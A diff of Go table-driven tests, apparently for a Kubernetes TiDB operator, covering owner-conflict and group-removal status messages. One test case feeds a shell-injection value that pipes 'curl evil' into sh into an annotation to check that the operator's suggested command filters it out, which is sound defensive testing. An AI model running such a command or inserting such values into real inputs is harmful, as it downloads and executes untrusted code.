@@ -193,7 +193,7 @@ func TestPlanAndReport(t *testing.T) {
 		"a deletion":                         {func(c *v1alpha1.TidbCluster) { c.DeletionTimestamp = ptr.To(metav1.NewTime(clock())) }, nil, "True/Ready", "False/Deleting", "none", "the groups are being deleted", 0, 0},
 		"a group of another owner": {nil, func(s snapshot) {
 			tikv(s).SetOwnerReferences([]metav1.OwnerReference{{Kind: "TidbCluster", Name: "other", UID: "other", Controller: ptr.To(true)}})
-		}, "False/NameConflict", "False/NameConflict", "True/NameConflict", "TiKVGroup basic-tikv exists and was not made by this TidbCluster", 3, 0},
+		}, "False/NameConflict", "False/NameConflict", "True/NameConflict", "TiKVGroup basic-tikv exists and was not made by this TidbCluster: rename one of the two, or delete the group, although its 3 members may hold data (kubectl -n ns delete TiKVGroup basic-tikv)", 3, 0},
 		"a group of a deleted cluster of the same name": {nil, func(s snapshot) {
 			tikv(s).SetOwnerReferences([]metav1.OwnerReference{{Kind: "TidbCluster", Name: "basic", UID: "before", Controller: ptr.To(true)}})
 		}, "False/Deleting", "False/Deleting", "none", "TiKVGroup basic-tikv belongs to a deleted TidbCluster of the same name", 3, 0},
@@ -272,8 +272,9 @@ func TestAGroupThatHoldsDataOutlivesItsEntry(t *testing.T) {
 	}{
 		"its stores are in PD":                   {registered, nil, "False/EntryRemoved", []string{"its 3 stores are in PD and may hold regions", back, scale, "kubectl -n ns annotate --overwrite tidbcluster basic 'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
 		"its operator says how many regions":     {counted, nil, "False/EntryRemoved", []string{"because its 3 stores hold about 740 region peers", back, scale}, 1, 0},
-		"consent to another one":                 {registered, allow("basic-tikv-old"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv-old,basic-tikv'"}, 1, 0},
-		"consent with what is no name":           {registered, allow("'; curl evil | sh; ', basic-tikv-old"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv-old,basic-tikv'"}, 1, 0},
+		"consent to one that is gone":            {registered, allow("basic-tikv-old"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
+		"consent to one that is wanted again":    {registered, allow("basic-tikv-main"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
+		"consent with what is no name":           {registered, allow("'; curl evil | sh; ', basic-tikv-old"), "False/EntryRemoved", []string{"'groups.tidb.dev/allow-removal=basic-tikv'"}, 1, 0},
 		"consent":                                {registered, allow("other, basic-tikv"), "True/UpToDate", nil, 0, 1},
 		"it is scaled to 0 and not there yet":    {leaving, nil, "False/Draining", []string{"TiKVGroup basic-tikv: store 1 is Offline"}, 1, 0},
 		"its scale to 0 is refused":              {func(s snapshot) { leaving(s); tell(tikv(s), step.Stall(v1alpha1.ReasonScaleInRefused, "too few")) }, nil, "False/ScaleInRefused", []string{"too few"}, 1, 0},
